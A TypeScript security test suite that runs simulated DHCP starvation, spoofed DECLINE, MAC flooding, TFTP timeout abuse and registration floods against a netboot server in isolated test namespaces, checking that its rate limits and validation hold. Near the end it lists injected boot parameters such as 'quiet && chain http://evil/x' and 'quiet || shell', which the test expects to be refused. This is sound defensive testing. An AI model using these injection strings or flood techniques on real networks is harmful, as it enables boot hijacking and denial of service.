// Attacks from a PC on the thin-client network against the real netboot servers (serve.js in
// network namespaces this test makes, 10.250.12.0/24) and the daemon's /boot/ routes (loopback):
// DHCP starvation by made-up MACs, a DECLINE of someone else's address, one MAC flooding, TFTP
// transfers that never ACK and ask a long timeout, many transfers from one address, a flood of
// unknown MACs registering, and boot parameters carrying iPXE script. Every count is bounded.
import assert from 'node:assert/strict';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { DHCP_PER_MAC } from '../../src/netboot/dhcp/limits.js';
import { MAX_TIMEOUT_SECONDS } from '../../src/netboot/tftp/codec.js';
import { MAX_TRANSFERS_PER_CLIENT } from '../../src/netboot/tftp/server.js';
import { MAX_RETRANSMITS } from '../../src/netboot/tftp/transfer.js';
import { REGISTRATIONS_OVERALL, REGISTRATIONS_PER_ADDRESS, BOOT_EVENT_MIN_INTERVAL_MS } from '../../src/thinclients/inventory.js';
import { TestDaemon } from '../helpers/daemon.js';
import { NetLab, REPO, udhcpcOnce, UDHCPC_SCRIPT, type ServerHandle } from '../netboot/lab.js';

const SERVER = '10.250.12.1';
const POOL = 40; // 10.250.12.100-139: the reserve is the last 4
const VICTIM_MAC = '52:54:00:0c:00:01';
const ATTACKER_JS = join(REPO, 'dist', 'test', 'security', 'netboot-attacker.js');

let lab: NetLab;
let dir: string;
let script: string;
let server: ServerHandle;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'sec-net-'));
  script = join(dir, 'udhcpc.sh');
  writeFileSync(script, UDHCPC_SCRIPT);
  chmodSync(script, 0o755);
  writeFileSync(join(dir, 'big.bin'), Buffer.alloc(512 * 200, 7));
  lab = await NetLab.create('sec');
  const srv = await lab.addHost('srv', `${SERVER}/24`);
  await lab.addHost('vic', undefined, VICTIM_MAC);
  const atk = await lab.addHost('atk', '10.250.12.66/24');
  // Broadcasts from an unbound socket need a route for 255.255.255.255 (a PC would have its default route).
  await lab.exec(atk, 'ip', ['route', 'add', 'default', 'dev', 'eth0']);
  server = await lab.startServer(srv, ['--interface', SERVER, '--mode', 'full', '--range', '10.250.12.100-10.250.12.139', '--netmask', '255.255.255.0', '--root', dir, '--force']);
  await server.waitFor((e) => e.event === 'ready');
});

after(async () => {
  await lab?.destroy();
  rmSync(dir, { recursive: true, force: true });
});

const attack = <T>(args: string[], timeoutMs = 120_000) => lab.exec(lab.ns('atk'), process.execPath, [ATTACKER_JS, ...args], timeoutMs).then((r) => JSON.parse(r.stdout) as T);
const victimLease = (extra: string[] = []) => udhcpcOnce(lab, lab.ns('vic'), script, extra).catch((err: Error) => {
  throw new Error(`${err.message}\nserver: ${JSON.stringify(server.events.filter((e) => String(e.event).startsWith('dhcp')).slice(-12))}`);
});
const inRange = (ip: string) => /^10\.250\.12\.(1[0-3]\d)$/.test(ip);

test('DHCP: a flood of made-up MACs doing the whole exchange cannot take the pool; a PC that was here before still gets an address', async () => {
  const first = await victimLease();
  assert.ok(inRange(first.ip));
  // The victim lets its address go, so it is up for grabs; the server keeps its record (expired).
  await lab.exec(lab.ns('vic'), process.execPath, [ATTACKER_JS, 'dhcp-release', '--server', SERVER, '--mac', VICTIM_MAC, '--ip', first.ip]);
  await server.waitFor((e) => e.event === 'dhcp-silent' && String(e.reason).startsWith(`RELEASE ${first.ip}`), 20_000, 'the RELEASE');
  const tally = await attack<{ offers: number; acks: number; naks: number; noOffer: number; ips: string[] }>(
    ['dhcp-starve', '--server', SERVER, '--count', '120', '--parallel', '10', '--listen', '1500']);
  const reserve = Math.floor(POOL * 0.1);
  assert.ok(tally.acks <= POOL - reserve, `the flood bound ${tally.acks} addresses of ${POOL}: ${JSON.stringify(tally)}`);
  assert.ok(tally.acks > 0, 'the flood was answered at first (the test attacks a working server)');
  assert.equal(tally.noOffer + tally.naks + tally.acks, 120, `every other new MAC was turned away (no offer, or a NAK once the reserve was reached): ${JSON.stringify(tally)}`);
  const again = await victimLease();
  assert.ok(inRange(again.ip), `the victim got ${again.ip}`);
  assert.ok(!tally.ips.includes(again.ip), 'not an address the attacker holds');
});

test('DHCP: a DECLINE of the victim\'s address from another MAC is ignored; the victim keeps it', async () => {
  const held = await victimLease();
  await attack(['dhcp-decline', '--server', SERVER, '--mac', '02:00:00:0c:66:66', '--ip', held.ip]);
  await server.waitFor((e) => e.event === 'dhcp-silent' && new RegExp(`^DECLINE of ${held.ip.replace(/\./g, '\\.')} by 02:00:00:0c:66:66 ignored`).test(String(e.reason)), 20_000, 'the DECLINE refused');
  assert.ok(!server.events.some((e) => String(e.reason).startsWith(`DECLINE ${held.ip} `)), 'the address was not held back');
  assert.equal((await victimLease()).ip, held.ip, 'the victim renews the same address');
});

test('DHCP: one MAC sending 300 DISCOVERs at once is answered a burst, then rate-limited', async () => {
  const started = Date.now();
  const burst = await attack<{ sent: number; offers: number }>(['dhcp-burst', '--mac', VICTIM_MAC, '--count', '300', '--listen', '2000']);
  const seconds = (Date.now() - started) / 1000;
  const ceiling = DHCP_PER_MAC.burst + Math.ceil((seconds * 1000) / DHCP_PER_MAC.refillMs) + 1;
  assert.ok(burst.offers <= ceiling, `${burst.offers} offers to one MAC in ${seconds} s (at most ${ceiling})`);
  assert.ok(burst.offers >= 1, 'the MAC was answered at first');
  server.proc.kill('SIGUSR1');
  const stats = await server.waitFor((e) => e.event === 'dhcp-stats' && Number(e.limited) > 0, 20_000, 'stats with limited packets');
  // The kernel may drop part of a burst from its socket buffer; what arrives beyond the ceiling is counted as limited.
  assert.ok(Number(stats.limited) > 0, JSON.stringify(stats));
  assert.ok(server.events.some((e) => e.event === 'dhcp-rate-limited'), 'the limit is logged in summary lines');
});

interface PortResult { packets: number; oack?: Record<string, string>; error?: string }

test('TFTP: a client that never ACKs and asks a 255 s timeout gets one packet and at most the bounded resends, at the default timeout', async () => {
  const [one] = await attack<PortResult[]>(['tftp-silent', '--server', SERVER, '--file', 'big.bin', '--timeout', '255', '--count', '1', '--listen', String((MAX_RETRANSMITS + 4) * 1000)]);
  assert.ok(one!.packets >= 1 && one!.packets <= 1 + MAX_RETRANSMITS, JSON.stringify(one));
  assert.equal(one!.oack?.timeout, undefined, `a timeout over ${MAX_TIMEOUT_SECONDS} s is not acknowledged`);
  await server.waitFor((e) => e.event === 'tftp-failed', 60_000, 'the silent transfer given up');
});

test(`TFTP: twelve transfers from one address: ${MAX_TRANSFERS_PER_CLIENT} run, the rest are refused`, async () => {
  const ports = await attack<PortResult[]>(['tftp-silent', '--server', SERVER, '--file', 'big.bin', '--count', '12', '--listen', '3000']);
  const started = ports.filter((p) => p.packets > 0).length;
  const refused = ports.filter((p) => p.packets === 0 && /too many transfers/.test(p.error ?? '')).length;
  assert.ok(started <= MAX_TRANSFERS_PER_CLIENT, `${started} transfers ran: ${JSON.stringify(ports)}`);
  assert.equal(started + refused, 12, JSON.stringify(ports));
});

// ---------- the daemon's /boot/ routes ----------

interface Raw { status: number; body: string }
function get(base: URL, path: string, from = '127.0.0.1', token?: string, method = 'GET', body?: unknown): Promise<Raw> {
  const payload = body === undefined ? undefined : Buffer.from(JSON.stringify(body));
  return new Promise((resolve, reject) => {
    const req = request({ host: base.hostname, port: base.port, path, method, localAddress: from,
      headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...(payload ? { 'content-type': 'application/json' } : {}) } }, (res) => {
      let text = '';
      res.on('data', (c: Buffer) => (text += c.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on('error', reject);
    req.end(payload);
  });
}

function liveThinClientEvents(base: URL, token: string): Promise<{ macs: string[]; close(): void }> {
  return new Promise((resolve, reject) => {
    const macs: string[] = [];
    let buffer = '';
    const req = request({ host: base.hostname, port: base.port, path: '/v1/events', headers: { accept: 'text/event-stream', authorization: `Bearer ${token}` } }, (res) => {
      res.on('data', (chunk: Buffer) => {
        buffer += chunk.toString();
        let end: number;
        while ((end = buffer.indexOf('\n\n')) >= 0) {
          const block = buffer.slice(0, end);
          buffer = buffer.slice(end + 2);
          const data = /^data: (.+)$/m.exec(block)?.[1];
          if (/^event: thinclient$/m.test(block) && data) macs.push((JSON.parse(data) as { mac: string }).mac);
        }
      });
      resolve({ macs, close: () => req.destroy() });
    });
    req.on('error', reject);
    req.end();
  });
}

const macOf = (i: number) => `52:54:00:0d:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`;

async function inParallel<T>(n: number, width: number, fn: (i: number) => Promise<T>): Promise<T[]> {
  const out: T[] = [];
  let next = 0;
  await Promise.all(Array.from({ length: width }, async () => { while (next < n) { const i = next++; out[i] = await fn(i); } }));
  return out;
}

test('/boot/: floods of unknown MACs register only within the limits, the live feed stays bounded, the kiosk config says only what the kiosk uses, script tokens are refused', async () => {
  const daemon = await TestDaemon.start({ extraArgs: ['--listen', '127.0.0.1:0'] });
  try {
    const base = new URL(/"url":"(http:\/\/127\.0\.0\.1:\d+)"/.exec(daemon.output)![1]!);
    const admin = readFileSync(join(daemon.dataDir, 'root.token'), 'utf8').trim();
    const live = await liveThinClientEvents(base, admin);
    const inventory = async () => (JSON.parse((await get(base, '/v1/thinclients', '127.0.0.1', admin)).body) as Array<{ mac: string }>).length;

    // One address, 100 made-up MACs: only the per-address burst is registered.
    let started = Date.now();
    const one = await inParallel(100, 10, (i) => get(base, `/boot/ipxe?mac=${macOf(i)}`));
    assert.ok(one.every((r) => r.status === 200));
    const perAddressCeiling = REGISTRATIONS_PER_ADDRESS.burst + Math.ceil((Date.now() - started) / REGISTRATIONS_PER_ADDRESS.refillMs);
    assert.ok((await inventory()) <= perAddressCeiling, `one address registered ${await inventory()} (at most ${perAddressCeiling})`);
    assert.ok(one.some((r) => /Too many new thin clients/.test(r.body)), 'the refused ones are told to ask again');

    // 60 addresses (127.0.0.x), 5 MACs each: only the overall burst (plus refill) is registered.
    started = Date.now();
    await inParallel(300, 10, (i) => get(base, `/boot/ipxe?mac=${macOf(1000 + i)}`, `127.0.0.${10 + (i % 60)}`));
    const overallCeiling = perAddressCeiling + REGISTRATIONS_OVERALL.burst + Math.ceil((Date.now() - started) / REGISTRATIONS_OVERALL.refillMs);
    const registered = await inventory();
    assert.ok(registered <= overallCeiling, `${registered} registered from 60 addresses (at most ${overallCeiling})`);

    // One known MAC asking 100 times: the live feed hears of it at most once per interval.
    const known = (JSON.parse((await get(base, '/v1/thinclients', '127.0.0.1', admin)).body) as Array<{ mac: string }>)[0]!.mac;
    const before = live.macs.filter((m) => m === known).length;
    started = Date.now();
    await inParallel(100, 10, () => get(base, `/boot/ipxe?mac=${known}`));
    await inParallel(50, 10, () => get(base, `/boot/thinclient/config?mac=${known}`));
    const eventCeiling = 1 + Math.ceil((Date.now() - started) / BOOT_EVENT_MIN_INTERVAL_MS);
    await new Promise((r) => setTimeout(r, 500));
    const heard = live.macs.filter((m) => m === known).length - before;
    assert.ok(heard <= eventCeiling, `the feed carried ${heard} events for one MAC (at most ${eventCeiling})`);
    assert.ok(live.macs.length <= registered + eventCeiling, `live feed: ${live.macs.length} events for ${registered} registrations`);
    live.close();

    // The kiosk config carries only what the kiosk uses: no name, state, pool.
    const patched = await get(base, `/v1/thinclients/${known}`, '127.0.0.1', admin, 'PATCH', { name: 'secret-desk', pool: 'finance', keyboardLayout: 'de' });
    assert.equal(patched.status, 200, patched.body);
    const config = JSON.parse((await get(base, `/boot/thinclient/config?mac=${known}`)).body) as Record<string, unknown>;
    assert.deepEqual(Object.keys(config).sort(), ['keyboardLayout', 'portalUrl', 'resolution']);
    assert.ok(!JSON.stringify(config).includes('finance') && !JSON.stringify(config).includes('secret-desk'));

    // Boot parameters carrying iPXE's own tokens are refused; the script never holds them.
    for (const bootParams of ['quiet || shell', 'quiet && chain http://evil/x', 'quiet #', 'a ; b', 'x" y', 'a\\b']) {
      const r = await get(base, `/v1/thinclients/${known}`, '127.0.0.1', admin, 'PATCH', { bootParams });
      assert.equal(r.status, 400, `${bootParams}: ${r.body}`);
    }
    const script = (await get(base, `/boot/ipxe?mac=${known}`)).body;
    assert.doesNotMatch(script.split('\n').find((l) => l.startsWith('kernel ')) ?? '', /\|\||&&|#/);
  } finally {
    await daemon.destroy();
  }
});
